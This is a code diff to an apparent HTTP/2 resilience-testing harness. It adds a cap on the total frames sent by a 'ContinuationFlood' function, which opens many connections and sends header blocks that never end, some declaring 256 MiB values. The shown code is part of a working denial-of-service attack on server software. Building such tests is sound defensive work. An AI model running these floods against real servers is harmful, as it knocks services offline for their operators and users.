@@ -5,6 +5,7 @@
 
 #include <algorithm>
 #include <atomic>
+#include <limits>
 #include <thread>
 #include <memory>
 #include <string>
@@ -167,14 +168,18 @@ AttackReport RapidReset(const AttackTarget& target, const AttackOptions& options
 // Header blocks that never end: HEADERS without END_HEADERS, then CONTINUATION
 // frames, on `concurrency` connections at once (default 16). Even connections send
 // thousands of 1 KiB headers; odd ones one header value declared `bytes` long
-// (default 256 MiB), 16 KiB at a time. duration: the most time (default 8 s). A
-// connection the server closes is replaced (at most 400 times in all).
+// (default 256 MiB), 16 KiB at a time. duration: the most time (default 8 s); count:
+// the most CONTINUATION frames sent in all (0: no limit), so that what the server
+// must parse does not grow with the machine's speed. A connection the server closes
+// is replaced (at most 400 times in all).
 AttackReport ContinuationFlood(const AttackTarget& target, const AttackOptions& options) {
   AttackReport report;
   const Endpoint to = EndpointOf(target.grpc_address);
   const absl::Time deadline = absl::Now() + options.duration;
   std::atomic<int64_t> connections{0}, goaways{0}, closed{0};
   std::atomic<int64_t> sent[2] = {0, 0};
+  std::atomic<int64_t> frames_left{options.count > 0 ? options.count
+                                                      : std::numeric_limits<int64_t>::max()};
   std::vector<std::thread> threads;
   for (int64_t t = 0; t < options.concurrency; ++t) {
     threads.emplace_back([&, huge = t % 2 == 1] {
@@ -208,6 +213,7 @@ AttackReport ContinuationFlood(const AttackTarget& target, const AttackOptions& 
         }
         int64_t declared_left = options.bytes;
         while (absl::Now() < deadline && (!huge || declared_left > 0)) {
+          if (frames_left.fetch_sub(16) < 16) return;  // the whole flood is sent
           if (!(*connection)->Send(frames).ok()) break;
           sent[huge].fetch_add(static_cast<int64_t>(frames.size()));
           declared_left -= static_cast<int64_t>(frames.size());
